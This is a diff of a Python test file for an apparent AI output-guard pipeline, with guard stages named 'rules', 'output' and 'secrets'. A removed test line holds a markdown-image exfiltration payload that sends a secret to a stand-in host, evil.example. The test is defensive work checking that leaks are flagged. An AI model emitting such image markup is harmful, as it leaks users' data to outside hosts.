@@ -13,9 +13,9 @@ from temper.core.chat import Reply, Role
 from temper.core.errors import TemperError
 from temper.core.probe import Draft
 from temper.guard.pipeline import of_assistant
+from temper.guard.spoken import MOST, Spoken
 from temper.store.codec import from_json, unwrap
 from temper.store.control.probes import FORMAT
-from temper.guard.spoken import MOST, Spoken
 from temper.targets.chat.function import ChatFunction
 from unit.test_web_workbench import words
 from unit.web_desk import World
@@ -132,10 +132,10 @@ def test_a_conversation_is_sent_as_a_client_sends_it_and_each_turn_is_judged() -
 
 
 def test_an_answer_that_is_supposed_is_judged_like_one_that_came() -> None:
-    guard = (("rules", {}), ("output", {}))
-    look = spoken(guard=guard).look((("user", "hello"), ("supposed", "![x](https://evil.example/?q=secret)")))
-    assert {one.stage for one in look.told} == {"rules", "output", "answer: rules", "answer: output"}
-    assert {one.stage: one.level for one in look.told}["answer: output"] != "ALLOW"
+    guard = (("rules", {}), ("secrets", {}))
+    look = spoken(guard=guard).look((("user", "hello"), ("supposed", "Pay with 4111 1111 1111 1111.")))
+    assert {one.stage for one in look.told} == {"rules", "secrets", "answer: rules", "answer: secrets"}
+    assert {one.stage: one.level for one in look.told}["answer: secrets"] == "REVISE"
 
 
 def test_asking_all_of_it_again_gives_each_turn_what_is_answered_now() -> None:
